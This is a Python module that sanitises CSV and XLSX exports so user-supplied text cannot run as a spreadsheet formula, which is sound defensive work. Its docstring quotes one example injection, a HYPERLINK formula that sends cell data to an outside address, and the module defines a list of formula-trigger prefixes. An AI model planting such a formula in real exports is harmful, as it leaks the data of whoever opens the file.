"""Every spreadsheet and CSV the platform writes goes through here, so no cell becomes a formula.

A value typed by a person (a name, a position, an imported cell) that starts with `=`, `+`,
`-` or `@` is run as a formula by Excel and LibreOffice when the file is opened (OWASP «CSV
injection»): `=HYPERLINK("http://…"&A1,"click")` sends the sheet's data away. XLSX cells are
therefore always written as string cells, and CSV text cells that look like a formula get a
leading apostrophe, which spreadsheets show as plain text. Real numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.cell.cell import Cell as XlsxCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

# Tab and CR open a formula in some spreadsheets too; the full-width forms are folded to the
# ASCII ones by Excel in East Asian input modes.
FORMULA_PREFIXES = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def looks_like_formula(text: str) -> bool:
    """True if a spreadsheet could read `text` as a formula (leading spaces are skipped by some)."""
    stripped = text.lstrip(" ")
    return bool(stripped) and stripped[0] in FORMULA_PREFIXES


def csv_value(value: object) -> object:
    """A value for `csv.writer`: text that looks like a formula is prefixed with `'`."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


def csv_bytes(rows: Iterable[Sequence[object]], *, delimiter: str = ";", bom: bool = True) -> bytes:
    """CSV that opens correctly in Russian Excel (UTF-8 with BOM, semicolons), every cell safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    for row in rows:
        writer.writerow([csv_value(v) for v in row])
    data = buffer.getvalue().encode("utf-8")
    return b"\xef\xbb\xbf" + data if bom else data


def xlsx_cell(sheet: WriteOnlyWorksheet, value: Any) -> XlsxCell:
    """A cell of a write-only sheet holding `value`; text is always a string cell, never a formula."""
    if isinstance(value, str):
        # Control characters are not allowed in XLSX at all (openpyxl refuses the value).
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell: XlsxCell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        # openpyxl turns any text starting with "=" into a formula cell; a string cell is
        # shown as typed and never evaluated, and the quote prefix keeps it text when
        # edited in Excel.
        cell.data_type = "s"
        if looks_like_formula(value):
            cell.quotePrefix = True
    return cell
